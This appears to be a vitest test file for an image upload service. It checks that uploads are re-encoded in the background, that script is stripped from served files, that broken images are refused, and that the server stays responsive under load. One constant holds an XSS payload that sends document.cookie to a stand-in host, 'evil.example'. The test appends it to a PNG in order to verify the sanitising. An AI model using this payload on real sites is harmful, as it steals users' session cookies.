import { randomBytes, randomUUID } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';

import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';

import { createTestApp, loginAs } from '../../../test/harness';
import { MemoryKv } from '../../db/kv';
import { KYC_MESSAGES } from '../kyc/test-support';
import { reencodeImage } from './images';
import { REENCODE_WORKERS } from './reencoder';
import { UPLOAD_MESSAGES } from './service';

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>';
let pngWithScript: Buffer;
/** A 2000 x 1500 photo-like PNG of 2.4 MB: about 0.8 s of one core to re-encode (level 9). */
let heavyPng: string;
beforeAll(async () => {
  const png = await sharp({ create: { width: 32, height: 24, channels: 3, background: '#2a6' } }).png().toBuffer();
  pngWithScript = Buffer.concat([png, Buffer.from(SCRIPT)]);
  const [w, h] = [2000, 1500];
  const raw = randomBytes(w * h * 3);
  for (let i = 0; i < raw.length; i += 1) raw[i] = Math.floor((((i / 3) | 0) % w) * (127 / w)) + (raw[i]! & 1);
  heavyPng = (await sharp(raw, { raw: { width: w, height: h, channels: 3 } }).png().toBuffer()).toString('base64');
});

async function uploadsApp(dataDir = `/tmp/pocket-test-reencode-${randomUUID()}`, kv = new MemoryKv()) {
  const app = await createTestApp({ dataDir }, { kv });
  return { app, dataDir, kv, dir: `${dataDir}/uploads` };
}

const read = (app: Awaited<ReturnType<typeof createTestApp>>, url: string, headers: Record<string, string>) => app.inject({ method: 'GET', url, headers });

describe('uploads are re-encoded off the request path', () => {
  it('the upload answers before its re-encode; reading back serves only the re-encoded bytes (no script, nosniff, attachment)', async () => {
    const { app, dir } = await uploadsApp();
    app.uploads.reencoder.pause();
    const a = await loginAs(app);
    const res = await a.call('POST', '/api/common/api/uploadBase64', { content: pngWithScript.toString('base64') });
    expect(res.json).toMatchObject({ code: 200, data: { mime: 'image/png', size: pngWithScript.length } });
    const { id, url } = res.json.data;
    // Answered with the original stored and not yet re-encoded: nothing servable exists.
    expect((await readdir(dir)).sort()).toEqual([`${id}.orig`]);
    app.uploads.service.serveWaitMs = 300;
    const early = await read(app, url, a.signedHeaders());
    expect([early.statusCode, early.json()]).toEqual([409, { code: 409, msg: UPLOAD_MESSAGES.processing, data: { retryAfterSeconds: 5 } }]);

    app.uploads.reencoder.resume();
    await app.uploads.reencoder.idle();
    const served = await read(app, url, a.signedHeaders());
    expect(served.statusCode).toBe(200);
    expect(served.rawPayload.equals((await reencodeImage(pngWithScript, 'image/png'))!)).toBe(true);
    expect(served.rawPayload.includes(Buffer.from('<script'))).toBe(false);
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.headers['content-disposition']).toBe('attachment; filename="upload.png"');
    // The bytes as received are gone once re-encoded.
    expect(await readdir(dir)).toEqual([id]);
  });

  it('reading back an upload still being re-encoded waits for it (bounded), as a client that shows the photo at once would', async () => {
    const { app } = await uploadsApp();
    app.uploads.reencoder.pause();
    const a = await loginAs(app);
    const { url } = (await a.call('POST', '/api/common/api/uploadBase64', { content: pngWithScript.toString('base64') })).json.data;
    const reading = read(app, url, a.signedHeaders());
    setTimeout(() => app.uploads.reencoder.resume(), 300);
    const served = await reading;
    expect(served.statusCode).toBe(200);
    expect((await sharp(served.rawPayload).metadata()).format).toBe('png');
  });

  it('a photo whose header reads but whose pixels do not is accepted, then refused by the re-encode: never served, and KYC refuses it', async () => {
    const { app, dir } = await uploadsApp();
    const a = await loginAs(app);
    const truncated = Buffer.from(heavyPng, 'base64').subarray(0, 200_000);
    const res = await a.call('POST', '/api/common/api/uploadBase64', { content: truncated.toString('base64') });
    expect(res.json.code).toBe(200);
    await app.uploads.reencoder.idle();
    expect(await readdir(dir)).toEqual([`${res.json.data.id}.refused`]);
    const served = await read(app, res.json.data.url, a.signedHeaders());
    expect([served.statusCode, served.json()]).toEqual([404, { code: 404, msg: UPLOAD_MESSAGES.unreadable, data: null }]);
    const face = await a.call('POST', '/api/user/auth/api/addOrUpdateUserAuthInfo', { type: 'face', faceImageId: res.json.data.id });
    expect(face.json).toEqual({ code: 400, msg: KYC_MESSAGES.upload('faceImageId'), data: null });
  });

  it(`the event loop stays responsive: /api/health answers within 100 ms (99%) while 6 heavy re-encodes run, at most ${REENCODE_WORKERS} at once`, async () => {
    const { app } = await uploadsApp();
    const a = await loginAs(app);
    await a.call('POST', '/api/common/api/uploadBase64', { content: pngWithScript.toString('base64') }); // loads the image library
    await app.uploads.reencoder.idle();
    // The client's own work (serialising 6 bodies of 3.2 MB) is done before the clock starts: only the server is timed.
    const body = JSON.stringify({ content: heavyPng });
    const requests = Array.from({ length: 6 }, () => ({
      method: 'POST' as const,
      url: '/api/common/api/uploadBase64',
      payload: body,
      headers: { ...a.signedHeaders(), 'content-type': 'application/json' },
    }));
    // Timed apart: while the 6 bodies of 3.2 MB are parsed (the request's cheap checks; printed), and once answered,
    // while the re-encodes run (the bar).
    const whileUploading: number[] = [];
    const latencies: number[] = [];
    let answered = 0;
    let most = 0;
    let done = false;
    const started = performance.now();
    const probe = (async () => {
      while (!done) {
        const t = performance.now();
        expect((await app.inject({ method: 'GET', url: '/api/health' })).statusCode).toBe(200);
        (answered === 0 ? whileUploading : latencies).push(performance.now() - t);
        most = Math.max(most, app.uploads.reencoder.busy.running);
        await new Promise((r) => setTimeout(r, 10));
      }
    })();
    const answers = await Promise.all(requests.map((request) => app.inject(request)));
    answered = performance.now() - started;
    const queuedAtAnswer = app.uploads.reencoder.busy.queued + app.uploads.reencoder.busy.running;
    await app.uploads.reencoder.idle();
    const reencoded = performance.now() - started;
    done = true;
    await probe;
    latencies.sort((x, y) => x - y);
    const figure = { answeredMs: Math.round(answered), reencodedMs: Math.round(reencoded), maxWhileUploading: Math.max(...whileUploading).toFixed(1), health: latencies.length, p50: latencies[latencies.length >> 1]!.toFixed(1), p99: latencies[Math.floor(latencies.length * 0.99)]!.toFixed(1), max: latencies.at(-1)!.toFixed(1), queuedAtAnswer };
    console.log('re-encodes off the path:', figure);
    expect(answers.map((r) => r.json().code)).toEqual([200, 200, 200, 200, 200, 200]);
    expect(queuedAtAnswer).toBeGreaterThan(0); // the answers did not wait for the re-encodes
    expect(most).toBeLessThanOrEqual(REENCODE_WORKERS);
    // 99% within 100 ms: a re-encode on the event loop would hold it 0.8 s at each image, for most probes. (Alone every
    // answer comes within 100 ms; when the 2 cores also run other suites, the scheduler adds a few outliers: printed.)
    expect(latencies[Math.floor(latencies.length * 0.99)]!).toBeLessThan(100);
  }, 120_000);

  it("a stopped process's originals are re-encoded by the next one (its queued leases are given back at close)", async () => {
    const first = await uploadsApp();
    first.app.uploads.reencoder.pause();
    const a = await loginAs(first.app);
    const { id, url } = (await a.call('POST', '/api/common/api/uploadBase64', { content: pngWithScript.toString('base64') })).json.data;
    await first.app.close();
    const next = await uploadsApp(first.dataDir, first.kv);
    await next.app.ready();
    const served = await read(next.app, url, a.signedHeaders());
    expect(served.statusCode).toBe(200);
    expect(served.rawPayload.equals(await readFile(`${first.dir}/${id}`))).toBe(true);
  });
});
